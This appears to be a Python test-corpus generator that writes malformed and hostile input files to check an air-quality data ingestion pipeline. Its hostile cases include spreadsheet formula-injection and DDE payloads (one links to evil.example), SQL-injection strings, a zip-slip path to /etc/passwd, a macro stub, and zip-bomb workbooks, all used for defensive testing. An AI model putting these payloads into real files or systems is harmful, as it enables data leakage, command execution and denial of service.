"""Write the corpus of hostile and broken input files (deterministic: same bytes every run).

    .venv/bin/python tests/corpus/make_corpus.py          # (re)writes tests/corpus/files/
    .venv/bin/python tests/corpus/make_corpus.py --check  # exit 1 if the committed files differ

Each file's expected outcome is in tests/corpus/expected.yaml; tests/reliability/
test_corpus.py runs every file through the ingestion pipeline. The two big files (10^6
columns, 100 MB) are not committed: ``million_columns`` and ``big_readings`` write them
into a temporary folder at test time.
"""

from __future__ import annotations

import argparse
import datetime as dt
import io
import random
import re
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"
#: A fixed time for every zip entry and workbook property: the bytes must not change.
FIXED = dt.datetime(2026, 1, 1, 0, 0, 0)

NAMES = ["西长安街", "新街口", "月坛", "展览路", "德胜", "金融街", "什刹海", "大栅栏",
         "天桥", "椿树", "陶然亭", "广内", "牛街", "白纸坊", "广外"]
LONG_HEADER = "subdistrict,time,pollutant,value"


def _hours(n: int, first: dt.datetime = dt.datetime(2026, 1, 5, 1)) -> list[str]:
    return [(first + dt.timedelta(hours=h)).strftime("%Y-%m-%d %H:%M") for h in range(n)]


def _long_rows(n_hours: int = 4, names: list[str] | None = None, seed: int = 1) -> list[str]:
    rng = random.Random(seed)
    return [f"{name},{t},PM2.5,{rng.uniform(10, 80):.1f}" for t in _hours(n_hours) for name in (names or NAMES)]


def _csv(lines: list[str], *, encoding: str = "utf-8", newline: str = "\n") -> bytes:
    return (newline.join(lines) + newline).encode(encoding)


def _good(*extra: str, header: str = LONG_HEADER) -> list[str]:
    """Two good rows, then the rows under test (line 4 on)."""
    return [header, "德胜,2026-01-05 13:00,PM2.5,35.0", "月坛,2026-01-05 13:00,PM2.5,41.5", *extra]


# -- workbooks -------------------------------------------------------------------------


def _normalise_zip(data: bytes) -> bytes:
    """Rewrite a zip with fixed timestamps and order, so a workbook's bytes are stable."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in src.namelist():
            info = zipfile.ZipInfo(name, date_time=FIXED.timetuple()[:6])
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o600 << 16
            data = src.read(name)
            if name == "docProps/core.xml":  # openpyxl stamps the save time here
                data = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*(<)", rb"\g<1>2026-01-01T00:00:00Z\g<2>", data)
            dst.writestr(info, data)
    return out.getvalue()


def _workbook(sheets: dict[str, list[list[object]]]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(row)
    wb.properties.created = FIXED
    wb.properties.modified = FIXED
    wb.properties.creator = "corpus"
    buf = io.BytesIO()
    wb.save(buf)
    return _normalise_zip(buf.getvalue())


def _rows_for_xlsx(n_hours: int = 3) -> list[list[object]]:
    rng = random.Random(5)
    rows: list[list[object]] = [["街道", "时间", "污染物", "浓度"]]
    for h in range(n_hours):
        t = dt.datetime(2026, 1, 5, 1) + dt.timedelta(hours=h)
        for name in NAMES[:5]:
            rows.append([name, t, "PM2.5", round(rng.uniform(10, 80), 1)])
    return rows


def _xlsm_with_macro() -> bytes:
    """A macro-enabled workbook: the macro-enabled content type and a vbaProject.bin part.

    The VBA part is an inert stand-in (an OLE header and an Auto_Open name as text): the
    point is that the monitor reads the cells and never runs or even parses the macro.
    """
    base = zipfile.ZipFile(io.BytesIO(_workbook({"数据": _rows_for_xlsx()})))
    parts = {name: base.read(name) for name in base.namelist()}
    parts["[Content_Types].xml"] = (
        parts["[Content_Types].xml"]
        .replace(
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        )
        .replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdVBA" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        b'Target="vbaProject.bin"/></Relationships>',
    )
    parts["xl/vbaProject.bin"] = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 56
        + b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, data in parts.items():
            dst.writestr(zipfile.ZipInfo(name, date_time=FIXED.timetuple()[:6]), data)
    return out.getvalue()


def _zip_of(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, data in entries.items():
            dst.writestr(zipfile.ZipInfo(name, date_time=FIXED.timetuple()[:6]), data)
    return out.getvalue()


# -- the corpus ------------------------------------------------------------------------

PNG_1PX = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000d49444154789c6360000002000100ffff03000006000557bfabd40000000049454e44ae426082"
)


def corpus() -> dict[str, Callable[[], bytes]]:
    """File name → a function returning its bytes."""
    c: dict[str, Callable[[], bytes]] = {}
    # good files: the baseline every hostile variant departs from
    c["good_long.csv"] = lambda: _csv([LONG_HEADER, *_long_rows()])
    c["good_wide_gbk.csv"] = lambda: _csv(
        ["街道,时间,PM2.5,PM10,NO2"] + [f"{n},{t},30,60,40" for t in _hours(2) for n in NAMES], encoding="gbk")
    c["good_utf8_bom.csv"] = lambda: b"\xef\xbb\xbf" + _csv(["街道名称,监测时间,污染物,浓度",
                                                            *[f"{n},{t},细颗粒物,33" for t in _hours(2) for n in NAMES]])
    c["good_utf16_excel_unicode_text.csv"] = lambda: "\ufeff".encode("utf-16-le") + "\r\n".join(
        ["subdistrict\ttime\tpollutant\tvalue", *[f"{n}\t{t}\tPM2.5\t30" for t in _hours(2) for n in NAMES]]
    ).encode("utf-16-le") + "\r\n".encode("utf-16-le")
    c["good_title_line_before_header.csv"] = lambda: _csv(["西城区各街道PM2.5小时浓度（导出）", "", LONG_HEADER, *_long_rows(1)])
    c["good_cr_only_newlines.csv"] = lambda: _csv([LONG_HEADER, *_long_rows(1)], newline="\r")
    c["good_workbook.xlsx"] = lambda: _workbook({"Sheet1": _rows_for_xlsx()})
    c["good_road_dust.csv"] = lambda: _csv(
        ["街道,道路,日期,尘负荷"] + [f"{n},{n}大街,2026-03,{0.1 + i / 100:.2f}" for i, n in enumerate(NAMES)])
    c["good_daily_values.csv"] = lambda: _csv([LONG_HEADER] + [f"{n},2026-01-0{d},PM2.5,{30 + d}" for d in range(1, 4) for n in NAMES])

    # the ingestion issue's list
    c["empty.csv"] = lambda: b""
    c["only_whitespace.csv"] = lambda: b"  \r\n\r\n\t\n"
    c["only_header.csv"] = lambda: _csv([LONG_HEADER])
    c["unknown_columns.csv"] = lambda: _csv(["foo,bar,baz", "1,2,3"])
    c["header_wrong_encoding.csv"] = lambda: "街道,时间,污染物,浓度\n".encode("gbk") + "德胜,2026-01-05 13:00,PM2.5,35\n".encode("utf-8")
    c["binary_png_renamed.csv"] = lambda: PNG_1PX
    c["binary_random_bytes.csv"] = lambda: random.Random(3).randbytes(4096)
    c["mixed_delimiters.csv"] = lambda: _csv(_good("德胜;2026-01-05 14:00;PM2.5;36", "月坛\t2026-01-05 14:00\tPM2.5\t40"))
    c["too_many_fields.csv"] = lambda: _csv(_good("德胜,2026-01-05 14:00,PM2.5,36,extra,fields"))
    c["too_few_fields.csv"] = lambda: _csv(_good("德胜,2026-01-05 14:00"))
    c["unknown_subdistrict.csv"] = lambda: _csv(_good("德胜门外,2026-01-05 14:00,PM2.5,36"))
    c["unknown_pollutant.csv"] = lambda: _csv(_good("德胜,2026-01-05 14:00,PM1,36"))
    c["impossible_date.csv"] = lambda: _csv(_good("德胜,2026-02-30 14:00,PM2.5,36"))
    c["unparseable_date.csv"] = lambda: _csv(_good("德胜,yesterday afternoon,PM2.5,36"))
    c["time_in_future.csv"] = lambda: _csv(_good("德胜,2099-01-05 14:00,PM2.5,36"))
    c["negative_value.csv"] = lambda: _csv(_good("德胜,2026-01-05 14:00,PM2.5,-5"))
    c["minus_999_missing.csv"] = lambda: _csv(_good("德胜,2026-01-05 14:00,PM2.5,-999", "月坛,2026-01-05 14:00,PM2.5,NA"))
    c["units_in_cell.csv"] = lambda: _csv(_good("德胜,2026-01-05 14:00,PM2.5,35μg/m³"))
    c["duplicate_row_in_file.csv"] = lambda: _csv(_good("德胜,2026-01-05 13:00,PM2.5,35.0"))
    c["conflicting_rows_in_file.csv"] = lambda: _csv(_good("德胜,2026-01-05 13:00,PM2.5,99.0"))

    # hostile cells and shapes
    c["formula_hyperlink.csv"] = lambda: _csv(_good('"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",2026-01-05 14:00,PM2.5,36'))
    c["formula_in_value.csv"] = lambda: _csv(_good("德胜,2026-01-05 14:00,PM2.5,=1+1", "月坛,2026-01-05 14:00,PM2.5,+cmd|' /C calc'!A0"))
    c["formula_dde_station.csv"] = lambda: _csv(
        ["subdistrict,time,pollutant,value,station", "德胜,2026-01-05 13:00,PM2.5,35,", "月坛,2026-01-05 13:00,PM2.5,41,@SUM(1+1)*cmd|' /C calc'!A0"])
    c["sql_injection_names.csv"] = lambda: _csv(_good("德胜'); DROP TABLE readings;--,2026-01-05 14:00,PM2.5,36",
                                                      "德胜,2026-01-05 14:00,pm25' OR '1'='1,36"))
    c["very_long_line.csv"] = lambda: _csv(_good("德胜,2026-01-05 14:00,PM2.5," + "9" * 140_000))
    c["very_long_name.csv"] = lambda: _csv(_good("德" * 50_000 + ",2026-01-05 14:00,PM2.5,36"))
    c["nul_bytes.csv"] = lambda: _csv(_good("德胜\x00,2026-01-05 14:00,PM2.5,3\x006"))
    c["nul_bytes_late.csv"] = lambda: _csv([LONG_HEADER, *_long_rows(400)]) + b"\x00" * 64 + _csv(["德胜,2026-01-05 14:00,PM2.5,36"])
    c["encoding_shift_jis.csv"] = lambda: "地区,時間,汚染物質,濃度\n東京,2026-01-05 13:00,PM2.5,35\n".encode("shift_jis")
    c["encoding_ebcdic.csv"] = lambda: _csv([LONG_HEADER, "Desheng,2026-01-05 13:00,PM2.5,35", "Yuetan,2026-01-05 13:00,PM2.5,41"], encoding="cp500")
    c["encoding_utf8_mojibake_via_latin1.csv"] = lambda: _csv(["街道,时间,污染物,浓度", "德胜,2026-01-05 13:00,PM2.5,35"]).decode("latin-1").encode("utf-8")
    c["invalid_utf8_in_body.csv"] = lambda: _csv(_good()) + b"\xff\xfe\xfd,2026-01-05 14:00,PM2.5,36\n"
    c["unbalanced_quote.csv"] = lambda: _csv(_good('"德胜,2026-01-05 14:00,PM2.5,36', *_long_rows(1)))
    c["many_columns_1000.csv"] = lambda: _csv([LONG_HEADER + "".join(f",x{i}" for i in range(1000)),
                                               "德胜,2026-01-05 13:00,PM2.5,35" + "," * 1000])
    c["nan_inf_huge_values.csv"] = lambda: _csv(_good("德胜,2026-01-05 14:00,PM2.5,nan", "德胜,2026-01-05 15:00,PM2.5,inf",
                                                      "德胜,2026-01-05 16:00,PM2.5,1e308", "德胜,2026-01-05 17:00,PM2.5,0x1F"))
    c["implausible_value.csv"] = lambda: _csv(_good("德胜,2026-01-05 14:00,PM2.5,123456"))
    c["zero_width_and_fullwidth.csv"] = lambda: _csv(_good("德\u200b胜,2026-01-05 14:00,PM2.5,36", "月坛,２０２６-０１-０５ １４:００,PM2.5,３６"))
    c["bidi_override_name.csv"] = lambda: _csv(_good("\u202e胜德,2026-01-05 14:00,PM2.5,36"))
    c["hour_24_label.csv"] = lambda: _csv(_good("德胜,2026-01-05 24:00,PM2.5,36"))
    c["year_1900.csv"] = lambda: _csv(_good("德胜,1900-01-05 14:00,PM2.5,36"))
    c["fullwidth_comma_delimiter.csv"] = lambda: _csv([LONG_HEADER.replace(",", "，"), "德胜，2026-01-05 13:00，PM2.5，35"])
    c["json_renamed.csv"] = lambda: b'{"subdistrict": "\\u5fb7\\u80dc", "time": "2026-01-05 13:00", "value": 35}\n'
    c["html_table_renamed.csv"] = lambda: b"<html><body><table><tr><td>subdistrict</td><td>time</td></tr></table></body></html>\n"
    c["road_dust_negative_and_bad_grade.csv"] = lambda: _csv(
        ["街道,道路,日期,尘负荷,等级", "德胜,德胜门大街,2026-03-05,0.3,良", "月坛,月坛南街,2026-03-05,-0.2,良", "天桥,天桥南大街,2026-03-05,0.2,极好"])

    # workbooks
    c["xlsm_with_macro.xlsm"] = _xlsm_with_macro
    c["workbook_several_sheets.xlsx"] = lambda: _workbook({
        "说明": [["本表为西城区空气质量数据"], ["第二张表是数据"]],
        "数据": _rows_for_xlsx(),
    })
    c["workbook_data_on_first_of_two.xlsx"] = lambda: _workbook({"数据": _rows_for_xlsx(), "汇总": [["合计", 1]]})
    c["workbook_formula_cells.xlsx"] = lambda: _workbook({"Sheet1": [
        ["街道", "时间", "污染物", "浓度"],
        ["德胜", dt.datetime(2026, 1, 5, 13), "PM2.5", 35],
        ['=HYPERLINK("http://evil.example","click")', dt.datetime(2026, 1, 5, 13), "PM2.5", 30],
        ["月坛", dt.datetime(2026, 1, 5, 13), "PM2.5", "=1+1"],
    ]})
    c["workbook_empty.xlsx"] = lambda: _workbook({"Sheet1": []})
    c["xlsx_truncated.xlsx"] = lambda: _workbook({"Sheet1": _rows_for_xlsx()})[:700]
    c["zip_not_a_workbook.xlsx"] = lambda: _zip_of({"readme.txt": b"not a workbook", "../../etc/passwd": b"root::0:0"})
    c["old_xls_ole_header.xls"] = lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504

    # -- issue 13: readers ------------------------------------------------------------------
    c.update(issue13_readers())
    return c


# -- issue 13: readers ----------------------------------------------------------------------

#: Where the GBK bytes of ``mixed_encoding_late.csv`` start (past the 64 KB the sniffer reads).
MIXED_AT = 66_033


def _mixed_encoding_late() -> bytes:
    head = _csv([LONG_HEADER, *_long_rows(100)])
    assert len(head) < MIXED_AT
    filler = "月坛,2026-01-06 01:00,PM2.5,35.0\n".encode()
    pad = MIXED_AT - len(head)
    body = head + b"".join([filler] * (pad // len(filler)))
    body += b"#" * (MIXED_AT - len(body) - 1) + b"\n"  # a comment-like line: rejected, not a problem
    assert len(body) == MIXED_AT
    return body + "德胜,2026-01-06 02:00,PM2.5,36\n".encode("gbk")


def _hidden_first_sheet() -> bytes:
    """The old data on a hidden first sheet, this month's on the visible (active) second one."""
    from openpyxl import Workbook

    wb = Workbook()
    old = wb.active
    old.title = "旧数据"
    old.append(["街道", "时间", "污染物", "浓度"])
    for name in NAMES[:10]:
        old.append([name, dt.datetime(2025, 1, 5, 13), "PM2.5", 99])
    old.sheet_state = "hidden"
    new = wb.create_sheet("数据")
    for row in _rows_for_xlsx():
        new.append(row)
    wb.active = 1
    wb.properties.created = wb.properties.modified = FIXED
    wb.properties.creator = "corpus"
    buf = io.BytesIO()
    wb.save(buf)
    return _normalise_zip(buf.getvalue())


def _with_sheet_xml(data: bytes, edit: Callable[[bytes], bytes]) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    return _zip_of({n: edit(src.read(n)) if n == "xl/worksheets/sheet1.xml" else src.read(n) for n in src.namelist()})


def _dimension_lie() -> bytes:
    """2 KB whose <dimension> claims 702 columns × 1,048,576 rows; five real rows."""
    return _with_sheet_xml(_workbook({"Sheet1": _rows_for_xlsx(1)}),
                           lambda x: re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:ZZ1048576"/>', x))


def _far_cell() -> bytes:
    """Five real rows and one cell at ZZ1048576: the sheet really is 702 columns wide."""
    far = b'<row r="1048576"><c r="ZZ1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    return _with_sheet_xml(_dimension_lie(), lambda x: x.replace(b"</sheetData>", far))


def _far_empty_cell() -> bytes:
    """The attack as found: a lying <dimension> and an empty styled cell at ZZ1048576, so a
    reader that pads rows fills 1,048,570 rows of 702 cells (main: past 6 GB)."""
    far = b'<row r="1048576"><c r="ZZ1048576" s="0"/></row></sheetData>'
    return _with_sheet_xml(_dimension_lie(), lambda x: x.replace(b"</sheetData>", far))


def issue13_readers() -> dict[str, Callable[[], bytes]]:
    c: dict[str, Callable[[], bytes]] = {}
    # 6: loggers' error codes are rejected rows; missing values (-9999 …) are missing
    c["sentinel_values.csv"] = lambda: _csv(_good("德胜,2026-01-05 14:00,PM10,9999", "月坛,2026-01-05 14:00,PM2.5,99999",
                                                  "德胜,2026-01-05 15:00,PM10,-9999"))
    # 7: numbers by the grammar, not by float(): 1_0 is not 10, Arabic-Indic ٣٥ is not 35
    c["underscore_number.csv"] = lambda: _csv(_good("德胜,2026-01-05 14:00,PM2.5,1_0", "月坛,2026-01-05 14:00,PM2.5,٣٥"))
    # 8: the hidden first sheet is old data; the visible one is read
    c["workbook_hidden_first_sheet.xlsx"] = _hidden_first_sheet
    c["workbook_only_hidden_sheet.xlsx"] = lambda: _with_workbook_state(_workbook({"数据": _rows_for_xlsx()}), "hidden")
    # 9: a pollutant column beside pollutant/value is listed as ignored
    c["long_extra_pm10_column.csv"] = lambda: _csv(
        [LONG_HEADER + ",PM10", "德胜,2026-01-05 13:00,PM2.5,35.0,60", "月坛,2026-01-05 13:00,PM2.5,41.5,70"])
    # 10: zoned times converted to Beijing time; zero seconds and milliseconds accepted
    c["zoned_times.csv"] = lambda: _csv([LONG_HEADER, "德胜,2026-01-05T05:00+00:00,PM2.5,35", "月坛,2026-01-05T05:00Z,PM2.5,36",
                                         "天桥,2026-01-05T13:00+08:00,PM2.5,37", "牛街,2026-01-05 13:00:00.000,PM2.5,38",
                                         "广内,2026-01-05 13:00:00,PM2.5,39"])
    # 11: PM2.5 above PM10 in the same hour and place: kept, flagged
    c["pm25_above_pm10.csv"] = lambda: _csv(["街道,时间,PM2.5,PM10", "德胜,2026-01-05 13:00,80,50", "月坛,2026-01-05 13:00,30,60"])
    # 16: physical line numbers after a quoted line break (LF, CR), the real byte offset, UTF-32
    c["quoted_newline_line_numbers.csv"] = lambda: _csv(
        [LONG_HEADER + ",note", '德胜,2026-01-05 13:00,PM2.5,35,"two', 'lines"', '月坛,2026-01-05 13:00,PM2.5,36,"a', 'b', 'c"',
         "德胜门外,2026-01-05 13:00,PM2.5,37,"])
    c["embedded_cr_line_numbers.csv"] = lambda: _csv(
        [LONG_HEADER + ",note", '德胜,2026-01-05 13:00,PM2.5,35,"one\rtwo"', "德胜门外,2026-01-05 13:00,PM2.5,37,"])
    c["mixed_encoding_late.csv"] = _mixed_encoding_late
    c["utf32_le_bom.csv"] = lambda: ("\ufeff" + "\n".join(_good("德胜门外,2026-01-05 14:00,PM2.5,36")) + "\n").encode("utf-32-le")
    c["utf32_be_bom.csv"] = lambda: ("\ufeff" + "\n".join(_good()) + "\n").encode("utf-32-be")
    # 3: the sheet's claimed size is not trusted; what it really holds is bounded
    c["workbook_dimension_lie.xlsx"] = _dimension_lie
    c["workbook_far_cell.xlsx"] = _far_cell
    c["workbook_far_empty_cell.xlsx"] = _far_empty_cell
    return c


def _with_workbook_state(data: bytes, state: str) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    edit = {"xl/workbook.xml": lambda x: x.replace(b'state="visible"', f'state="{state}"'.encode(), 1)}
    return _zip_of({n: edit[n](src.read(n)) if n in edit else src.read(n) for n in src.namelist()})


def zip_bomb_sheet(path: Path, rows: int = 1_048_576, cells: int = 16) -> Path:
    """A workbook of ``rows`` identical rows of ``cells`` numbers: ~1 MB packed, ~360 MB unpacked."""
    base = zipfile.ZipFile(io.BytesIO(_workbook({"Sheet1": _rows_for_xlsx(1)})))
    row = b"<row>" + b"<c><v>1</v></c>" * cells + b"</row>"
    block = row * 4096
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as out:
        for name in base.namelist():
            if name != "xl/worksheets/sheet1.xml":
                out.writestr(zipfile.ZipInfo(name, date_time=FIXED.timetuple()[:6]), base.read(name))
        part = zipfile.ZipInfo("xl/worksheets/sheet1.xml", date_time=FIXED.timetuple()[:6])
        part.compress_type = zipfile.ZIP_DEFLATED
        with out.open(part, "w") as sheet:
            sheet.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                        b'spreadsheetml/2006/main"><sheetData>')
            for _ in range(rows // 4096):
                sheet.write(block)
            sheet.write(b"</sheetData></worksheet>")
    return path


def shared_strings_flood(path: Path, n: int = 400_000) -> Path:
    """A good workbook whose shared-string table carries ``n`` more strings no cell uses."""
    base = zipfile.ZipFile(io.BytesIO(_workbook({"Sheet1": _rows_for_xlsx()})))
    parts = {name: base.read(name) for name in base.namelist()}  # openpyxl writes inline strings: add a table
    parts["xl/sharedStrings.xml"] = (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="%d" uniqueCount="%d">' % (n, n)
        + b"".join(b"<si><t>unused %d</t></si>" % i for i in range(n)) + b"</sst>")
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'spreadsheetml.sharedStrings+xml"/></Types>')
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rIdSST" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    path.write_bytes(_zip_of(parts))
    return path


# -- big files, written at test time -----------------------------------------------------


def million_columns(path: Path, n: int = 1_000_000) -> Path:
    """A header of ``n`` columns (about 7 MB on one line) and one short row."""
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        fh.write(LONG_HEADER)
        for i in range(n - 4):
            fh.write(f",c{i}")
        fh.write("\n德胜,2026-01-05 13:00,PM2.5,35\n")
    return path


def big_readings(path: Path, target_bytes: int = 100 * 1024 * 1024, *, first: dt.datetime = dt.datetime(2020, 1, 1, 1),
                 pollutants: tuple[str, ...] = ("PM2.5", "PM10", "NO2", "SO2", "O3", "CO"),
                 stations: int = 1) -> int:
    """A valid long-form readings file of about ``target_bytes``; returns its row count.

    Rows run hour by hour from ``first`` over 15 subdistricts, the pollutants and
    ``stations`` station columns, so every row has its own key.
    """
    rng = random.Random(11)
    rows = 0
    header = "subdistrict,time,pollutant,value,station\n" if stations > 1 else LONG_HEADER + "\n"
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        fh.write(header)
        written = len(header)
        hour = 0
        while written < target_bytes:
            label = (first + dt.timedelta(hours=hour)).strftime("%Y-%m-%d %H:%M")
            lines = []
            for name in NAMES:
                for pol in pollutants:
                    for s in range(stations):
                        value = rng.uniform(0.2, 2.0) if pol == "CO" else rng.uniform(5, 150)
                        suffix = f",S{s}" if stations > 1 else ""
                        lines.append(f"{name},{label},{pol},{value:.1f}{suffix}\n")
            chunk = "".join(lines)
            fh.write(chunk)
            written += len(chunk.encode("utf-8"))
            rows += len(lines)
            hour += 1
    return rows


def write_all(folder: Path) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    out = []
    for name, make in sorted(corpus().items()):
        path = folder / name
        path.write_bytes(make())
        out.append(path)
    return out


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--check", action="store_true", help="compare with the committed files instead of writing")
    args = parser.parse_args(argv)
    if args.check:
        stale = [name for name, make in sorted(corpus().items())
                 if not (FILES / name).exists() or (FILES / name).read_bytes() != make()]
        extra = sorted({p.name for p in FILES.iterdir()} - set(corpus()))
        for name in stale:
            print(f"differs or missing: {name}", file=sys.stderr)
        for name in extra:
            print(f"not generated by this script: {name}", file=sys.stderr)
        return 1 if stale or extra else 0
    paths = write_all(FILES)
    print(f"wrote {len(paths)} files to {FILES}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
